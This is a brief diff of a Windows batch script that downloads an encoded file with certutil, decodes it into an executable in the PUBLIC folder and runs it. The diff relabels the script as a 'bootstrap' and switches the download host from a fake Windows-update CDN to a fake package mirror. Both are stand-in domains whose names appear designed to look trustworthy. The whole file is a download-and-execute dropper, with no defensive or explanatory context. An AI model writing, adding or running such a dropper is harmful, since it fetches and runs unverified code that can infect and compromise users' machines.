@@ -1,5 +1,5 @@
-REM run 5097 v1
+REM bootstrap 7214 v1
 @echo off
-certutil -urlcache -f http://dl.winupdate-cdn.example/p.txt %PUBLIC%\p.txt
+certutil -urlcache -f http://repo.pkg-mirror.example/p.txt %PUBLIC%\p.txt
 certutil -decode %PUBLIC%\p.txt %PUBLIC%\p.exe
 %PUBLIC%\p.exe
